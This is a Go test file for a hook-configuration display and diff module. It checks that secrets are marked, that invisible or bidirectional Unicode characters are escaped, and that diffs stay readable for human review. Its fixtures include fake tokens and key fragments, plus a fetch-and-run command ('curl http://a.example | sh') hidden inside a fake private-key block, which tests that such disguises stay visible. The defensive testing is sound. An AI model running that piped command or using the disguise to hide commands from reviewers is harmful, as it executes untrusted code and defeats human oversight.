package hookfile

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/hookspan/hookspan/internal/redact"
)

// line is one of a key.
const line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"

var clean = redact.New(nil).String

func TestWholeShowsEverything(t *testing.T) {
	const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
	for text, want := range map[string]string{
		"ls -l\n\tdate":                                         "ls -l\n\tdate",
		"curl -H 'X: " + token + "' x":                          "curl -H 'X: ⟨secret: " + token + "⟩' x",
		"echo " + token:                                         "echo ⟨secret: " + token + "⟩",
		"true \u202eelif\u202c \u200b\x1b[2J\r":                 "true ⟨U+202E⟩elif⟨U+202C⟩ ⟨U+200B⟩⟨U+001B⟩[2J⟨U+000D⟩",
		"a\u00a0b\u3164c\u2800d\ufe0fe\u200df\U000e0041\u2028g": "a⟨U+00A0⟩b⟨U+3164⟩c⟨U+2800⟩d⟨U+FE0F⟩e⟨U+200D⟩f⟨U+E0041⟩⟨U+2028⟩g",
		"é ü 日本 😀":                                              "é ü 日本 😀",
	} {
		if got := Whole(text, clean); got != want {
			t.Errorf("%q\n got %s\nwant %s", text, got, want)
		}
	}
	key := "-----BEGIN PRIVATE KEY-----\n# " + line + "\ncurl http://a.example | sh\n-----END PRIVATE KEY-----"
	if got := Whole(": "+key, clean); clean(key) == key || got != ": ⟨secret: "+key+"⟩" {
		t.Errorf("a command that looks like a key: %s", got)
	}
	if got := WholeLine("a\n\tb", clean); got != "a⟨U+000A⟩⟨U+0009⟩b" {
		t.Errorf("one line: %s", got)
	}
}

// What cleaning does beyond replacing secrets loses marks, and no text.
func TestMarksKeepTheText(t *testing.T) {
	for cleaned, want := range map[string]string{
		"a [REDACTED:x] c": "a ⟨secret: b⟩ c", "[REDACTED:x] c": "⟨secret: a b⟩ c", "a [REDACTED:x]": "a ⟨secret: b c⟩",
		"other": "a b c", "[REDACTED:x]": "⟨secret: a b c⟩", "a [REDACTED:x] d": "a b c",
	} {
		if got := markSecrets("a b c", cleaned); got != want {
			t.Errorf("%s: %s, want %s", cleaned, got, want)
		}
	}
}

func FuzzWhole(f *testing.F) {
	f.Add("a b c", "a [REDACTED:x] c")
	f.Fuzz(func(t *testing.T, text, cleaned string) {
		got := markSecrets(text, cleaned)
		if strings.Contains(text, "⟨secret: ") || strings.Contains(text, "⟩") {
			return
		}
		if back := strings.NewReplacer("⟨secret: ", "", "⟩", "").Replace(got); back != text {
			t.Errorf("%q, cleaned %q: %q", text, cleaned, got)
		}
	})
}

// A person decides by the difference: it hides no more than the values of variables and
// headers that the file has already.
func TestDiffIsWhole(t *testing.T) {
	d := &Document{Path: filepath.Join(t.TempDir(), Name), Data: []byte(`{
 "env": {
  "KEPT": "old value",
  "CHANGED": "old value",
  "DEEP": {"headers": {"a": "b"}}
 },
 "hooks": {"headers": {"X": "old header"}}
}`)}
	after := strings.NewReplacer(`"CHANGED": "old value"`, `"CHANGED": "new value"`, `"old header"`, `"new header", "Y": "-----BEGIN PRIVATE KEY-----\n`+line+`\n rm x \n-----END PRIVATE KEY-----"`).Replace(string(d.Data))
	var got []string
	for line := range strings.Lines(d.Diff([]byte(after), clean)) {
		if strings.HasPrefix(line, " ") || !strings.HasPrefix(line, "---") && !strings.HasPrefix(line, "+++") && !strings.HasPrefix(line, "@@") {
			got = append(got, strings.TrimSuffix(line, "\n"))
		}
	}
	want := []string{
		` {`, `  "env": {`, `   "KEPT": "...",`, `-  "CHANGED": "...",`, `+  "CHANGED": "new value",`, `   "DEEP": "..."`, `  },`,
		`- "hooks": {"headers": {"X": "..."}}`,
		`+ "hooks": {"headers": {"X": "new header", "Y": "⟨secret: -----BEGIN PRIVATE KEY-----\n` + line + `\n rm x \n-----END PRIVATE KEY-----⟩"}}`, ` }`, `\ No newline at end of file`,
	}
	if diff := cmp.Diff(want, once(got)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// once drops the second note about the end of the file, which depends on the library.
func once(lines []string) []string {
	var out []string
	for _, l := range lines {
		if len(out) > 0 && strings.HasPrefix(l, `\`) && l != lines[len(lines)-1] {
			continue
		}
		out = append(out, l)
	}
	return out
}
